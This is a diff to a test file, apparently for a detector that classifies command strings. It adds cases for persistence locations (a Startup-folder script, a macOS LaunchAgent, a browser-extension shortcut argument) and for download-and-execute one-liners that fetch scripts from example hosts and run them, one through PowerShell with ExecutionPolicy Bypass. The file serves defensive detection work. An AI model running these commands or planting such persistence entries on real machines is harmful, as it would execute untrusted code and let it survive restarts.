@@ -89,6 +89,20 @@ describe('destructive commands', () => {
   })
 })
 
+describe('places that start code again', () => {
+  it.each([
+    String.raw`C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.vbs`,
+    '/Users/u/Library/LaunchAgents/com.example.agent.plist',
+    "shortcut.Arguments = '--load-extension=C:\\Users\\u\\AppData\\Roaming\\Extension'",
+  ])('%s', (value) => {
+    expect(kinds(value)).toContain('persistence')
+  })
+
+  it.each(['/Users/u/Library/Preferences/x.plist', '--disable-extensions', 'Start Menu shortcut created'])('not %s', (value) => {
+    expect(kinds(value)).not.toContain('persistence')
+  })
+})
+
 describe('downloads piped into what runs them', () => {
   it.each([
     'curl -s https://get.example.net/s.sh | sh',
@@ -99,6 +113,11 @@ describe('downloads piped into what runs them', () => {
     'wget -O - https://get.example.net/x.pl | perl',
     "os.system('curl https://get.example.net/x.js | node')",
     'echo aW1wb3J0IG9z | base64 -d | python3',
+    'curl https://cdn.example.net/a/build.py -o %TEMP%/start.pyw && py %TEMP%/start.pyw',
+    'curl -sL -o /tmp/.x https://get.example.net/x; python3 /tmp/.x',
+    'wget -q https://get.example.net/x.js -O ~/.cache/u.js && node ~/.cache/u.js',
+    'curl -o payload.exe https://get.example.net/p && start payload.exe',
+    'curl --output "C:\\Users\\Public\\u.ps1" https://get.example.net/u & powershell -ExecutionPolicy Bypass -File "C:\\Users\\Public\\u.ps1"',
   ])('%s', (command) => {
     expect(kinds(command)).toContain('shell-download')
   })
@@ -109,6 +128,9 @@ describe('downloads piped into what runs them', () => {
     'curl -sS registry.example.org/event-stream | node pretty.js',
     'curl -s https://api.example.net/v1 | python3 format.py',
     'curl -s https://example.net/x | shasum',
+    'curl -fsSL -o node.tar.gz https://nodejs.org/dist/node.tar.gz && tar xzf node.tar.gz',
+    'wget https://example.net/data.csv -O data.csv && python3 load.py data.csv',
+    'curl -o /tmp/sum.txt https://example.net/sum && sha256sum -c /tmp/sum.txt',
   ])('not %s', (command) => {
     expect(kinds(command)).not.toContain('shell-download')
   })
